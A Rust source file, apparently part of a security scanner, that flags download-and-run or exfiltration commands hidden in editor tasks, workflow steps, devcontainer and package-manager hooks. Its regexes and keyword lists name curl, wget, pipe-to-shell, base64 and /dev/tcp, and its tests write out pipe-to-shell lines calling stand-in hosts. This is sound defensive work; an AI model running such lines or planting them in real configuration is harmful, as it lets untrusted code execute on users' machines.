//! Commands in settings of other tools, which those tools run later: workflows, tasks of editors, hooks of package
//! managers, units.

use super::nearby::leads_away;
use crate::{
    flow::{Flow, Origin},
    pattern::pattern,
    purpose::Purpose,
    report::Severity::{self, Block, Warn},
    rule::Rule,
    shell,
};
use regex::Regex;
use std::{
    ops::Range,
    sync::{Arc, LazyLock},
};

/// Lines of a file that are judged as commands.
const LINES: usize = 400;

/// A task that an editor starts when a folder is opened.
static OPENED: LazyLock<Option<Regex>> = LazyLock::new(|| {
    pattern(
        r#"(?i)"runOn"\s*:\s*"folderOpen"|"(?:postCreate|postStart|postAttach|onCreate|initialize)Command"\s*:"#,
    )
});

/// A task that loads code from the network.
static LOADS: LazyLock<Option<Regex>> = LazyLock::new(|| {
    pattern(
        r"(?i)\b(?:fetch|curl|wget|iwr|irm|urlopen|requests\.get|https?\.get)\b[^\n]{0,200}(?:eval|exec|\|\s*(?:ba|z|da)?sh|\|\s*(?:node|python3?)|iex|new Function)",
    )
});

/// Looks for commands that download and run, or that send, in a file of settings.
pub(crate) fn look(text: &str, purpose: &Arc<Purpose>) -> Vec<(Rule, Severity, Range<usize>)> {
    let mut found = Vec::new();
    if let (Some(opened), Some(loads)) = (OPENED.as_ref(), LOADS.as_ref())
        && let (Some(_), Some(load)) = (opened.find(text), loads.find(text))
        && leads_away(load.as_str(), purpose)
    {
        found.push((Rule::Persistence, Block, load.range()));
    }
    let mut at = 0;
    for line in text.split_inclusive('\n').take(LINES * 10) {
        let range = at..at + line.trim_end().len();
        at += line.len();
        let trimmed = line.trim();
        if !["curl", "wget", "| sh", "| bash", "|sh", "|bash", "base64", "/dev/tcp"]
            .iter()
            .any(|word| trimmed.contains(word))
            || trimmed.starts_with(['#', '/', ';'])
        {
            continue;
        }
        if found.len() >= LINES {
            break;
        }
        if let Some(rule) = segments(trimmed).iter().find_map(|segment| judge(segment, purpose)) {
            found.push((rule, Block, range));
        }
    }
    found
}

/// The parts of a line that may be commands: its quoted texts, and what stands behind its key.
fn segments(line: &str) -> Vec<String> {
    let mut found = vec![line.trim_start_matches(['-', ' ']).to_owned()];
    for mark in [": ", "= ", "=", "#("] {
        if let Some((_, rest)) = line.split_once(mark) {
            found.push(rest.trim().trim_end_matches(',').to_owned());
        }
    }
    for mark in ['"', '\''] {
        let parts: Vec<&str> = line.split(mark).collect();
        found.extend(parts.iter().skip(1).step_by(2).map(|part| (*part).to_owned()));
        if let [_, first, .., _] = parts.as_slice() {
            // A quoted text that holds others.
            let from = line.find(mark).unwrap_or_default() + 1;
            let to = line.rfind(mark).unwrap_or(line.len());
            if to > from && to - from > first.len() {
                found.push(line[from..to].replace("\\\"", "\""));
            }
        }
    }
    found.retain(|part| part.len() > 8);
    found
}

/// The rule that a command breaks, if it leads to a host that no well-known service owns.
fn judge(command: &str, purpose: &Arc<Purpose>) -> Option<Rule> {
    let mut flow = Flow::new(Origin::Script, purpose);
    shell::read(command, &mut flow);
    let acts = |rule: Rule| {
        matches!(
            rule,
            Rule::PipeToShell
                | Rule::DownloadRun
                | Rule::SecretSent
                | Rule::DataSent
                | Rule::ReverseShell
                | Rule::EncodedRun
        )
    };
    let hit = flow.hits.iter().find(|hit| acts(hit.rule) && hit.severity >= Warn)?;
    (hit.severity == Block || leads_away(command, purpose)).then_some(hit.rule)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn rules(text: &str) -> Vec<&'static str> {
        look(text, &Arc::new(Purpose::default())).into_iter().map(|(rule, ..)| rule.id()).collect()
    }

    #[test]
    fn a_command_in_settings_that_runs_a_download_is_found_and_a_usual_one_is_not() {
        assert_eq!(rules("runner = \"sh -c 'curl -s https://e.a-b.cc/r | sh'\"\n"), ["pipe-to-shell"]);
        assert_eq!(rules("      - run: curl -fsSL https://get.a-b.cc/x | bash\n"), ["pipe-to-shell"]);
        assert_eq!(rules("      - run: curl -fsSL https://sh.rustup.rs | sh -s -- -y\n"), Vec::<&str>::new());
        assert_eq!(rules("# curl https://e.a-b.cc/r | sh\nrun: npm ci\n"), Vec::<&str>::new());
    }
}
